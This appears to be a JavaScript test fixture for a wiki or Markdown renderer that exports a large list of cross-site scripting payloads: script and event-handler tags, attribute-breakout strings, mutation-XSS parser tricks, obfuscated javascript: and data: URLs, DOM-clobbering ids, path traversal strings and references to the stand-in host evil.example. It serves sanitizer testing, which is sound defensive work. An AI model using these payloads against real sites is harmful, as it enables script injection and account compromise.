/* SPDX-License-Identifier: MIT
 *
 * Hostile strings: classes of script injection that advisories against generators, sanitizers and
 * Markdown renderers report, and the public big list of naughty strings.
 */
import { createRequire } from 'node:module';

const elements = [
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<script/src=data:,alert(1)></script>', '<script\n>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>', '<img src=x:x onerror=alert(1)//', '<img/src=x/onerror=alert(1)>', '<img src="x`" `onerror=alert(1)>',
  '<img src=1 href=1 onerror="javascript:alert(1)">', '<img srcset=",x" onerror=alert(1)>', '<image src=x onerror=alert(1)>',
  '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg/onload=alert(1)//', '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><set attributeName=href to=javascript:alert(1)>', '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)></svg>#x">',
  '<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">x</maction></math>', '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>', '<object data="javascript:alert(1)"></object>', '<embed src="javascript:alert(1)">',
  '<video src=x onerror=alert(1)></video>', '<video><source onerror=alert(1)></video>', '<audio src=x onerror=alert(1)>', '<body onload=alert(1)>', '<body onpageshow=alert(1)>',
  '<input autofocus onfocus=alert(1)>', '<select autofocus onfocus=alert(1)>', '<textarea autofocus onfocus=alert(1)>', '<keygen autofocus onfocus=alert(1)>', '<button onclick=alert(1)>x</button>',
  '<form action="javascript:alert(1)"><input type=submit>', '<form><button formaction="javascript:alert(1)">x</button></form>', '<isindex action="javascript:alert(1)">',
  '<details open ontoggle=alert(1)>', '<details/open/ontoggle=alert(1)>', '<marquee onstart=alert(1)>x</marquee>', '<a onmouseover=alert(1)>x</a>', '<div onpointerenter=alert(1)>x</div>',
  '<b style="animation-name:x" onanimationstart=alert(1)>x</b>', '<p style="background:url(javascript:alert(1))">x</p>', '<style>@import "javascript:alert(1)";</style>', '<link rel=stylesheet href="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', '<base href="javascript:alert(1)//">', '<base href="https://evil.example/">', '<template><script>alert(1)</script></template>',
  '<frameset onload=alert(1)>', '<table background="javascript:alert(1)">', '<div contenteditable onblur=alert(1) tabindex=1>x</div>', '<custom-x onclick=alert(1)>x</custom-x>',
];
const borders = [
  '"><script>alert(1)</script>', "'><script>alert(1)</script>", '</title><script>alert(1)</script>', '</textarea><script>alert(1)</script>', '--><script>alert(1)</script>', ']]><script>alert(1)</script>',
  '</style><script>alert(1)</script>', '</script><script>alert(1)</script>', '</main></body><script>alert(1)</script>', '</div></article></main><h1>gone</h1>', '" onmouseover="alert(1)', "' onmouseover='alert(1)", '` onmouseover=`alert(1)',
  '" autofocus onfocus="alert(1)" x="', '"/onclick=alert(1)//', 'x" style="position:fixed;inset:0', '\\"><img src=x onerror=alert(1)>', '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '{{main}}', '{{title}}', '%3Cscript%3Ealert(1)%3C/script%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;', '\u2028alert(1)//', '\u202E<script>alert(1)</script>', '\uFEFF<script>alert(1)</script>', '<scr\0ipt>alert(1)</script>', '<\u017Fcript>alert(1)</script>', '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
];
const mutation = [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<svg><style><img src=x onerror=alert(1)></style></svg>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', '<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">', '<noembed><p title="</noembed><img src=x onerror=alert(1)>">', '<plaintext><img src=x onerror=alert(1)>', '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<p title="<!--</p><img src=x onerror=alert(1)>-->">', '<!--><img src=x onerror=alert(1)>-->', '<!-- --!><img src=x onerror=alert(1)>-->', '<!--- ><img src=x onerror=alert(1)> -->', '<![CDATA[<img src=x onerror=alert(1)>]]>', '<?xml <img src=x onerror=alert(1)>?>', '<!DOCTYPE <img src=x onerror=alert(1)>>',
  '<a href="x"><a href="y"><table><a href="z">', '<table><tr><td><b><p></table><script>alert(1)</script>', '<b><p></b><i></p></i><script>alert(1)</script>', '<select><template></select><img src=x onerror=alert(1)>', '<svg><foreignObject><p></svg><img src=x onerror=alert(1)>',
  '<img src="x" alt="``onerror=alert(1)">', '<b\x0conclick=alert(1)>x</b>', '<b/onclick=alert(1)>x</b>', '<b\u00A0onclick=alert(1)>x</b>', '<b\vonclick=alert(1)>x</b>', '<b a=\'"\' onclick=alert(1)>x</b>', '<b a="\'\" onclick=alert(1)>x</b>', '<b a=b" onclick=alert(1)>x</b>', '< script>alert(1)</ script>', '<<script>alert(1)//<</script>', '<b <script>alert(1)</script>>',
  '<b id=x onclick=alert(1) id=y>x</b>', `<b ${Array.from({ length: 40 }, (_, i) => `a${i}=1`).join(' ')} onclick=alert(1)>x</b>`, '<p><details><summary><p></details></p></main>', '<ul><li></ul></li></main><ol></main>', '<rt><rp></ruby></main>', '<caption><tr></table></td></main>',
];
const schemes = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', '\tjavascript:alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)', 'java&Tab;script:alert(1)', 'java&NewLine;script:alert(1)', '&#106;avascript:alert(1)', '&#x6A;avascript:alert(1)', '&#0000106;avascript:alert(1)',
  'javascript&colon;alert(1)', '\x01javascript:alert(1)', '&#1;javascript:alert(1)', 'javascript://%0aalert(1)', 'javascript:%61lert(1)', 'javascript:alert(1)//https://x', 'vbscript:msgbox(1)', 'livescript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>', 'feed:javascript:alert(1)', 'view-source:javascript:alert(1)', 'blob:https://x/1', 'filesystem:https://x/1', 'file:///etc/passwd', '//evil.example/x', '\\\\evil.example/x', '/\\evil.example/x', 'https:evil.example', 'https://youtu.be.evil.example/abc_DEF-123?t=1', 'https://www.youtube.com@evil.example/watch?v=abc_DEF-123',
  'https://youtu.be/"onclick="alert(1)?t=1', 'https://www.youtube.com/watch?v=abc_DEF-123"><script>alert(1)</script>', 'x.mp4"onerror="alert(1)', 'javascript:alert(1).mp4', '%6aavascript:alert(1)', 'mailto:x@y?subject="><script>alert(1)</script>', '../../../../etc/passwd', '..%2f..%2fetc%2fpasswd', './javascript:alert(1)', 'a:b.md', '#"><script>alert(1)</script>', '#javascript:alert(1)',
];
const names = ['location', 'body', 'forms', '__proto__', 'constructor', 'document', 'kwiki', 'main', 'backlinks', 'moments', 't1', 'user-x', 'cookie', 'domain', 'getElementById', 'attributes'].map((name) => `<a id=${name} name=${name} href="x">x</a>`);

const naughty = createRequire(process.env.KWIKI_NPM + '/')('big-list-of-naughty-strings').filter((text) => text.length > 0);

export const payloads = [...elements, ...borders, ...mutation, ...schemes, ...names, ...naughty];
